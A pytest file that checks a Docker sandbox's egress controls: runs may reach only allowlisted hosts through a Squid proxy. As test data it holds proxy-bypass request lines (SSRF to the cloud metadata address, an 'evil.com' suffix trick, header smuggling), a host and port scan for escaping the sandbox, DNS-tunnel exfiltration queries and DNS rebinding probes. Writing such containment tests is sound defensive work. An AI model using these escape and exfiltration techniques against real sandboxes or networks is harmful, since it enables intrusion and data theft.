"""Runs with a purpose reach what is listed, through the proxy, and nothing else by any way."""

import asyncio
import json
import random
import socket
import uuid
from collections.abc import AsyncIterator, Callable
from ipaddress import IPv4Address, IPv4Network
from typing import Any, cast

import pytest
import pytest_asyncio
from docker.errors import APIError

from connectors.artifacts import ArtifactStore
from sandbox.docker.container import SandboxOptions
from sandbox.docker.engine import Engine
from sandbox.docker.hardening import LABEL_KIND
from sandbox.docker.provider import DockerSandbox
from sandbox.egress import proxy as proxy_module
from sandbox.egress import purposes
from sandbox.egress.purposes import EgressSettings
from sandbox.errors import CapacityExhausted, IsolationMissing, SandboxUnavailable, SpecRefused
from sandbox.metrics import CONNECTIONS
from sandbox.provisioning import Images
from sandbox.result import RunResult
from sandbox.spec import Limits, RunSpec
from tests.sandbox.attacks.world import Outside, outside_on
from tests.sandbox.running import Left

pytestmark = pytest.mark.docker

CURL = "curl -sS -m 8 --proxytunnel -w '[%{http_code}]' "


NAMES = {
    "allowed.example.com": ["{web}"],
    "denied.example.com": ["{web}"],
    "private.example.com": ["10.255.0.1"],
    "metadata.example.com": ["169.254.169.254"],
    "loopback.example.com": ["127.0.0.1"],
    "rebinding.example.com": ["{web}", "127.0.0.1", "10.255.0.1"],
}
LISTED = tuple(name for name in NAMES if not name.startswith("denied"))


@pytest_asyncio.fixture
async def outside(engine: Engine, image: str) -> AsyncIterator[Outside]:
    """On addresses that are public anywhere else, so that only the names decide."""
    async with outside_on(engine, image, f"11.222.{random.randrange(256)}.0/24", NAMES) as outside:  # noqa: S311 - no secret
        yield outside


@pytest.fixture
def settings(outside: Outside, images: Images) -> EgressSettings:
    return EgressSettings(
        purposes={"git": LISTED, "nothing": ()},
        proxy_image=images.proxy.digest,
        outbound=outside.network,
        resolvers=(IPv4Address(outside.address),),
    )


@pytest_asyncio.fixture
async def open_sandbox(
    engine: Engine, store: ArtifactStore, options: SandboxOptions, settings: EgressSettings, left: Left
) -> AsyncIterator[DockerSandbox]:
    sandbox = DockerSandbox(engine, store, options, settings)
    yield sandbox
    await sandbox.close()
    assert await left() == []


async def shell(sandbox: DockerSandbox, image: str, code: str, purpose: str | None = "git") -> RunResult:
    spec = RunSpec(
        run_id=uuid.uuid4().hex[:12],
        image=image,
        argv=("sh", "-c", code),
        purpose=purpose,
        limits=Limits(wall_seconds=45),
    )
    return await sandbox.run(spec)


async def test_what_is_listed_is_reached_and_recorded(
    open_sandbox: DockerSandbox, image: str, outside: Outside
) -> None:
    result = await shell(open_sandbox, image, f"{CURL} http://allowed.example.com:443/big/500000 | wc -c")
    assert result.stdout.text.strip() == str(500_000 + len("[200]"))
    (connection,) = result.connections
    assert (connection.host, connection.port, connection.allowed) == ("allowed.example.com", 443, True)
    assert 500_000 < connection.bytes_received < 502_000
    assert (await outside.state())["visits"] == ["/big/500000"]


def refusals() -> float:
    (metric,) = CONNECTIONS.collect()
    return sum(s.value for s in metric.samples if s.name.endswith("_total") and s.labels["allowed"] == "false")


async def test_what_is_not_listed_is_refused_counted_and_not_even_resolved(
    open_sandbox: DockerSandbox, image: str, outside: Outside
) -> None:
    before = refusals()
    result = await shell(open_sandbox, image, f"{CURL} http://denied.example.com:443/")
    assert "[000]" in result.stdout.text
    assert "403" in result.stderr.text
    assert [(c.host, c.allowed) for c in result.connections] == [("denied.example.com", False)]
    assert refusals() == before + 1
    assert await outside.state() == {"queries": [], "visits": [], "seen": []}


AROUND = [
    "CONNECT allowed.example.com:80 HTTP/1.1", "CONNECT allowed.example.com:22 HTTP/1.1",
    "CONNECT allowed.example.com:8443 HTTP/1.1",
    "GET http://allowed.example.com/ HTTP/1.1", "GET http://allowed.example.com:443/ HTTP/1.1",
    "POST http://allowed.example.com:443/ HTTP/1.1", "GET https://allowed.example.com/ HTTP/1.1",
    "CONNECT {address}:443 HTTP/1.1", "CONNECT {number}:443 HTTP/1.1", "CONNECT [::ffff:{address}]:443 HTTP/1.1",
    "CONNECT sub.allowed.example.com:443 HTTP/1.1", "CONNECT allowed.example.com.evil.com:443 HTTP/1.1",
    "CONNECT xallowed.example.com:443 HTTP/1.1", "CONNECT user@allowed.example.com@denied.example.com:443 HTTP/1.1",
    "CONNECT private.example.com:443 HTTP/1.1", "CONNECT metadata.example.com:443 HTTP/1.1",
    "CONNECT loopback.example.com:443 HTTP/1.1", "GET /squid-internal-mgr/info HTTP/1.1",
    "GET cache_object://localhost/info HTTP/1.0", "CONNECT localhost:443 HTTP/1.1", "CONNECT 127.0.0.1:3128 HTTP/1.1",
    "GET ftp://allowed.example.com/ HTTP/1.1", "CONNECT 169.254.169.254:443 HTTP/1.1", "PURGE http://x/ HTTP/1.1",
    "CONNECT denied.example.com:443 HTTP/1.1\r\nHost: allowed.example.com:443",
    "CONNECT proxy.banksman.internal:3128 HTTP/1.1", "TRACE http://allowed.example.com/ HTTP/1.1",
]  # fmt: skip
SEND = """
import json, os, socket
host, port = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')
for line in json.load(open('lines.json')):
    with socket.create_connection((host, int(port)), timeout=8) as proxy:
        proxy.sendall(line.encode() + b'\\r\\n\\r\\n')
        print(proxy.recv(100).split()[1].decode(), line.encode())
"""


async def test_no_request_leads_around_the_list(open_sandbox: DockerSandbox, image: str, outside: Outside) -> None:
    address = outside.address
    lines = [line.format(address=address, number=int(IPv4Address(address))) for line in AROUND]
    spec = RunSpec.model_validate(
        {
            "run_id": uuid.uuid4().hex[:12],
            "image": image,
            "argv": ["python3", "-c", SEND],
            "purpose": "git",
            "files": [{"path": "lines.json", "content": json.dumps(lines).encode()}],
        }
    )
    result = await open_sandbox.run(spec)
    assert result.exit_code == 0, result.stderr.text
    answers = result.stdout.text.splitlines()
    assert len(answers) == len(lines)
    assert [answer for answer in answers if answer[0] not in "45"] == []
    assert [connection for connection in result.connections if connection.allowed] == []
    assert (await outside.state())["visits"] == []


async def test_a_name_that_is_bound_again_leads_nowhere_else(
    open_sandbox: DockerSandbox, image: str, outside: Outside
) -> None:
    """Its answers are to be kept for no time, and from the second on lead inside."""
    code = f"for n in 1 2 3 4 5 6; do {CURL} http://rebinding.example.com:443/$n; sleep 0.4; done"
    result = await shell(open_sandbox, image, code)
    state = await outside.state()
    assert result.stdout.text.count("[200]") == 6  # all at the address that was checked first
    assert state["visits"] == [f"/{n}" for n in range(1, 7)]
    assert state["queries"].count("rebinding.example.com") <= 2  # one for each address family


async def test_an_open_redirect_of_a_listed_host_ends_at_the_list(
    open_sandbox: DockerSandbox, image: str, outside: Outside
) -> None:
    result = await shell(open_sandbox, image, f"{CURL} -L http://allowed.example.com:443/to/denied.example.com:443/x")
    assert "[200]" not in result.stdout.text
    assert [(c.host, c.allowed) for c in result.connections] == [
        ("allowed.example.com", True),
        ("denied.example.com", False),
    ]
    assert (await outside.state())["visits"] == ["/to/denied.example.com:443/x"]


DIRECT = """
import socket, subprocess
def escaped(what): print('ESCAPED', what, flush=True)
own = subprocess.run(['hostname', '-I'], capture_output=True, text=True).stdout.split()[0]
base = own.rsplit('.', 1)[0] + '.'
near = [base + str(int(own.rsplit('.', 1)[1]) + step) for step in (-2, 1, 2, 3)]
for host in {hosts} + near:
    for port in {ports}:
        try: socket.create_connection((host, port), timeout=0.4).close(); escaped((host, port))
        except OSError: pass
question = bytes.fromhex('abcd01000001000000000000') + b'\\x06stolen\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
for host in {hosts} + ['127.0.0.11'] + near[:1]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.4)
    try: s.sendto(question, (host, 53)); s.recv(512)[3] & 15 or escaped(('dns', host))
    except OSError: pass
try: escaped(socket.gethostbyname('stolen-secret-2.example.com'))
except OSError: pass
print('tried')
"""


def direct(outside: Outside, port: int) -> str:
    gateway = str(outside.subnet[1])
    hosts = [outside.address, gateway, "169.254.169.254", "192.0.2.53", "10.213.255.1", *addresses_of_the_host()]
    code = DIRECT.format(hosts=sorted(set(hosts)), ports=[port, 443])
    return f"cat > a.py <<'E'\n{code}\nE\npython3 a.py"


def addresses_of_the_host() -> list[str]:
    found = {str(info[4][0]) for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.254", 9))
        found.add(str(probe.getsockname()[0]))
    return sorted(address for address in found if not address.startswith("127."))


async def test_without_the_proxy_nothing_is_reached_and_no_name_gets_out(
    open_sandbox: DockerSandbox, image: str, outside: Outside
) -> None:
    with socket.create_server(("0.0.0.0", 0)) as listener:  # noqa: S104 - what an attacker would find
        listener.setblocking(False)  # noqa: FBT003 - the standard library's own
        result = await shell(open_sandbox, image, direct(outside, listener.getsockname()[1]))
        assert result.stdout.text == "tried\n", result.stderr.text
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert await outside.state() == {"queries": [], "visits": [], "seen": []}


async def test_that_attack_succeeds_on_an_ordinary_network(
    open_sandbox: DockerSandbox, engine: Engine, image: str, outside: Outside
) -> None:
    """The canary: with a gateway and a resolver, the same program gets out and is seen."""
    create = engine.api.create_container_from_config

    def ordinary(config: dict[str, object], name: str) -> object:
        host = {**cast("dict[str, object]", config["HostConfig"])}
        if cast("dict[str, str]", config["Labels"])[LABEL_KIND] == "run":
            host |= {"Dns": [outside.address], "NetworkMode": outside.network}
            config = {**config, "HostConfig": host, "NetworkingConfig": {}}
        return create(config, name)

    engine.api.create_container_from_config = cast("Callable[..., dict[str, object]]", ordinary)
    with socket.create_server(("0.0.0.0", 0)) as listener:  # noqa: S104 - what an attacker would find
        port = listener.getsockname()[1]
        result = await shell(open_sandbox, image, direct(outside, port))
    assert f", {port})" in result.stdout.text
    assert "stolen-secret-2.example.com" in (await outside.state())["queries"]


async def test_the_self_test_passes_with_networks(open_sandbox: DockerSandbox, image: str) -> None:
    await open_sandbox.self_test(image)


async def test_the_self_test_notices_a_network_with_a_gateway(
    open_sandbox: DockerSandbox, engine: Engine, image: str
) -> None:
    create = engine.api.create_network

    def with_a_gateway(name: str, **options: object) -> object:
        return cast("Callable[..., object]", create)(name, **{**options, "options": {}})

    engine.api.create_network = cast("Callable[..., dict[str, object]]", with_a_gateway)
    with pytest.raises(IsolationMissing, match="reached past its proxy"):
        await open_sandbox.self_test(image)


async def test_one_run_cannot_use_up_the_proxy(open_sandbox: DockerSandbox, image: str) -> None:
    code = """
import os, socket
host, port = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')
answers, kept = [], []
for n in range(80):
    s = socket.create_connection((host, int(port)), timeout=8); kept.append(s)
    s.sendall(b'CONNECT allowed.example.com:443 HTTP/1.1\\r\\n\\r\\n')
    answers.append(s.recv(20).split()[1])
print(answers.count(b'200'), answers.count(b'403'))
"""
    result = await shell(open_sandbox, image, f"cat > a.py <<'E'\n{code}\nE\npython3 a.py")
    assert result.stdout.text == "64 16\n", result.stderr.text


async def test_runs_do_not_meet_each_other(open_sandbox: DockerSandbox, image: str) -> None:
    listen = "python3 -m http.server 8000 >/dev/null 2>&1 & sleep 0.5; hostname -I > me; cat me; sleep 3"
    reach = (
        "import socket\nfor third in range(4):\n for last in range(256):\n  s = socket.socket(); s.settimeout(0.004)\n"
        "  try: s.connect((f'10.214.{third}.{last}', 8000)); print('ESCAPED', last)\n"
        "  except OSError: pass\nprint('tried')"
    )
    first, second = await asyncio.gather(
        shell(open_sandbox, image, listen), shell(open_sandbox, image, f'sleep 0.6; python3 -c "{reach}"')
    )
    assert first.stdout.text.startswith("10.214.")
    assert second.stdout.text == "tried\n", second.stderr.text


@pytest.mark.parametrize("closed", [True, False], ids=["closed", "canary: without the rule"])
async def test_a_listed_name_with_a_private_address_is_refused(
    engine: Engine, image: str, images: Images, store: ArtifactStore, options: SandboxOptions,
    monkeypatch: pytest.MonkeyPatch, closed: bool,
) -> None:  # fmt: skip
    if not closed:
        monkeypatch.setattr(purposes, "INSIDE", ("192.0.2.0/24",))
    async with outside_on(engine, image, f"10.217.{random.randrange(256)}.0/24", NAMES) as outside:  # noqa: S311 - no secret
        settings = EgressSettings(
            purposes={"git": LISTED}, proxy_image=images.proxy.digest, outbound=outside.network,
            resolvers=(IPv4Address(outside.address),),
        )  # fmt: skip
        sandbox = DockerSandbox(engine, store, options, settings)
        result = await shell(sandbox, image, f"{CURL} http://allowed.example.com:443/inside")
        await sandbox.close()
        assert (await outside.state())["visits"] == ([] if closed else ["/inside"])
        assert [c.allowed for c in result.connections] == [not closed]


async def test_the_order_of_the_rules_keeps_names_in(
    open_sandbox: DockerSandbox, image: str, outside: Outside, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The canary of the DNS tunnel: with the address rule first, a refused name is resolved, and that is seen."""
    ordered = purposes.squid_configuration

    def reordered(hosts: tuple[str, ...]) -> str:
        lines = ordered(hosts).splitlines()
        lines.remove("http_access deny inside")
        lines.insert(lines.index("http_access deny !named"), "http_access deny inside")
        return "\n".join(lines) + "\n"

    monkeypatch.setattr(proxy_module, "squid_configuration", reordered)
    await shell(open_sandbox, image, f"{CURL} http://stolen.denied.example.com:443/")
    assert "stolen.denied.example.com" in (await outside.state())["queries"]


async def test_a_purpose_without_hosts_reaches_nothing(open_sandbox: DockerSandbox, image: str) -> None:
    result = await shell(open_sandbox, image, f"{CURL} http://allowed.example.com:443/", purpose="nothing")
    assert [c.allowed for c in result.connections] == [False]


async def test_an_unknown_purpose_is_refused_with_those_there_are(open_sandbox: DockerSandbox, image: str) -> None:
    with pytest.raises(SpecRefused, match="'everything' does not exist here: the deployment has git, nothing"):
        await shell(open_sandbox, image, "true", purpose="everything")


async def test_a_pool_that_is_used_up_is_told_and_recovers(
    engine: Engine, image: str, store: ArtifactStore, options: SandboxOptions, settings: EgressSettings, left: Left
) -> None:
    small = settings.model_copy(update={"pool": IPv4Network("10.218.0.0/29")})
    sandbox = DockerSandbox(engine, store, options, small)
    began = asyncio.Event()
    spec = RunSpec(run_id="first", image=image, argv=("sh", "-c", "echo on; sleep 60"), purpose="git")
    first = asyncio.create_task(sandbox.run(spec, on_output=lambda _stream, _data: began.set()))
    await asyncio.wait_for(began.wait(), 30)
    with pytest.raises(CapacityExhausted, match=r"all networks of 10\.218\.0\.0/29 are in use"):
        await shell(sandbox, image, "true")
    first.cancel()
    await asyncio.gather(first, return_exceptions=True)
    await sandbox.containers.settled()
    assert (await shell(sandbox, image, "true")).exit_code == 0
    await sandbox.close()
    assert await left() == []


async def test_a_range_that_is_given_back_right_after_it_was_refused_is_no_failure(
    open_sandbox: DockerSandbox, engine: Engine, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    create, refused = engine.api.create_network, list[str]()

    def beside_another(name: str, **given: Any) -> Any:
        if refused or not given["internal"]:
            return create(name, **given)
        other = create(f"{name}-other", **given)
        try:
            return create(name, **given)
        except APIError:
            refused.append(name)
            raise
        finally:
            engine.api.remove_network(str(other["Id"]))

    monkeypatch.setattr(engine.api, "create_network", beside_another)
    assert (await shell(open_sandbox, image, "true")).exit_code == 0
    assert len(refused) == 1


async def test_networks_that_the_engine_makes_nowhere_are_a_failure_that_says_so(
    open_sandbox: DockerSandbox, engine: Engine, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    create, asked = engine.api.create_network, list[str]()

    def nowhere(name: str, **given: Any) -> Any:
        if not given["internal"]:
            return create(name, **given)
        asked.append(name)
        given["options"] = {"com.docker.network.bridge.name": "lo"}
        return create(name, **given)

    monkeypatch.setattr(engine.api, "create_network", nowhere)
    with pytest.raises(SandboxUnavailable, match="the container engine answered"):
        await shell(open_sandbox, image, "true")
    assert len(asked) < 10


async def test_a_proxy_that_died_is_started_again(
    open_sandbox: DockerSandbox, engine: Engine, image: str, options: SandboxOptions
) -> None:
    assert (await shell(open_sandbox, image, "true")).exit_code == 0
    label = {"label": [f"banksman.deployment={options.deployment}", "banksman.kind=proxy"]}
    (proxy,) = await engine.call(engine.api.containers, all=True, filters=label)
    await engine.call(engine.api.kill, str(proxy["Id"]))
    async with asyncio.timeout(20):
        while True:
            if not await engine.call(engine.api.containers, all=False, filters=label):
                break
            await asyncio.sleep(0.05)
    result = await shell(open_sandbox, image, f"{CURL} http://allowed.example.com:443/")
    assert "hello from outside" in result.stdout.text


async def test_cancelling_a_run_with_a_network_leaves_none(
    open_sandbox: DockerSandbox, image: str, engine: Engine, options: SandboxOptions
) -> None:
    spec = RunSpec(run_id="victim", image=image, argv=("sh", "-c", "echo on; sleep 60"), purpose="git")
    began = asyncio.Event()
    task = asyncio.create_task(open_sandbox.run(spec, on_output=lambda _stream, _data: began.set()))
    await asyncio.wait_for(began.wait(), 30)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await open_sandbox.containers.settled()
    label = {"label": [f"banksman.deployment={options.deployment}", "banksman.kind=network"]}
    assert await engine.call(engine.api.networks, filters=label) == []
